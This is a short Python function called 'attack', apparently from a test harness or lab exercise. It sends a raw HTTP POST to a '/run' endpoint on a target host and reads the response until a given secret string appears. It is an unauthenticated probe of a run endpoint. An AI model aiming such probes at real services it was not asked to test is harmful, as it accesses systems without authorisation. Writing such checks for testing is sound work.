def attack(args):
    host, port = args["target"]
    body = json.dumps({"value": {}, "activation_id": "0"})
    request = f"POST /run HTTP/1.1\r\nhost: it\r\ncontent-length: {len(body)}\r\n\r\n{body}"
    with socket.create_connection((host, port), timeout=1) as connection:
        connection.sendall(request.encode())
        connection.settimeout(2)
        text = ""
        while args["secret"] not in text:
            piece = connection.recv(1000).decode()
            if not piece:
                raise Refused(f"somebody else answers: {text}")
            text += piece
        return text
